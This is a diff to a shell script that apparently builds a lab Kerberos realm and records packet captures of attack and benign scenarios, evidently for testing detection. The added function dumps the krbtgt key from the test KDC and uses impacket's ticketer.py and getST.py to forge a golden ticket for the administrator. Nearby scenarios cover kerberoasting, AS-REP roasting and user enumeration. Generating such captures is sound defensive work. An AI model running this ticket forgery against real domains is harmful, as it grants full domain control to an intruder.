@@ -142,6 +142,24 @@ krb_users() { # nmap's krb5-enum-users with 40 names, 4 of which exist
         --script-args "krb5-enum-users.realm=$realm,userdb=$dir/users" "$kdc" >"$dir/nmap.log" 2>&1 || true
 }
 
+krb_golden() { # people log in; then a ticket made of krbtgt's NT hash gets one for a service
+    local key name
+    kadmin.local -r "$realm" -q "cpw -randkey krbtgt/$realm" >/dev/null # ticketer writes the number of its second key
+    kadmin.local -r "$realm" -q "ktadd -norandkey -k $dir/krbtgt.keytab krbtgt/$realm" >/dev/null
+    key=$(klist -k -K -e "$dir/krbtgt.keytab" | sed -n 's/^ *2 .*arcfour-hmac.*(0x\([0-9a-f]*\)).*/\1/p')
+    for name in alice bob carol dave; do
+        as "Summer-$name-1" "$name"
+        ask HTTP/portal
+    done
+    "${cli[@]}" kdestroy
+    cd "$dir"
+    "${cli[@]}" /usr/bin/python3 /usr/share/doc/python3-impacket/examples/ticketer.py -nthash "$key" \
+        -domain-sid S-1-5-21-1004336348-1177238915-682003330 -domain "$realm" administrator
+    KRB5CCNAME=$dir/administrator.ccache "${cli[@]}" timeout 20 /usr/bin/python3 /usr/share/doc/python3-impacket/examples/getST.py \
+        -k -no-pass -dc-ip "$kdc" -spn HTTP/portal "$realm/administrator"
+    cd "$here"
+}
+
 benign_kerberos() { # log-ins with a wrong password between, tickets for services, one of which can only RC4
     as Summer-alice-1 alice
     ask HTTP/portal host/files cifs/files imap/mail
@@ -188,7 +206,7 @@ record() { # scenario
     ls -l "$replay/$1/input.pcap"
 }
 
-all=(krb_roast krb_asrep krb_hash krb_users benign_kerberos benign_ldap ldap_enumeration)
+all=(krb_roast krb_asrep krb_hash krb_users krb_golden benign_kerberos benign_ldap ldap_enumeration)
 [ "${1:-list}" = list ] && { printf '%s\n' "${all[@]}"; exit 0; }
 [ "$1" = all ] && set -- "${all[@]}"
 trap cleanup EXIT
